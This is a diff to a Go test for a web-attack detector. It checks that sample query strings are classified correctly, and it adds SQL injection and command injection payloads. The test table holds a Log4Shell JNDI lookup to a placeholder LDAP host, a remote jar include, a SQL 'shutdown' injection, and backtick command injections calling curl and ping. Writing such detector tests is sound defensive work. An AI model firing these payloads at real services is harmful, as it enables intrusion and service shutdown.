@@ -23,6 +23,9 @@ func TestClassesTogether(t *testing.T) {
 		"${${::-j}ndi:ldap://h.example/a}":       detect.Of(detect.Log4Shell),
 		"jar:http://h.example/a.jar!/b":          detect.Of(detect.LFI, detect.RFI),
 		"{ $ne: 1 }":                             detect.Of(detect.NoSQLi),
+		"';if 1=1 shutdown-- -a":                 detect.Of(detect.SQLi),
+		"curl h || `ping -c 2 h` #":              detect.Of(detect.CmdI),
+		"'||`curl http://h.example`#":            detect.Of(detect.SQLi, detect.CmdI),
 		"' or 'q'='q":                            detect.Of(detect.SQLi),
 	} {
 		if found := d.Target("/s?q=" + url.QueryEscape(text)); found.Classes() != want {
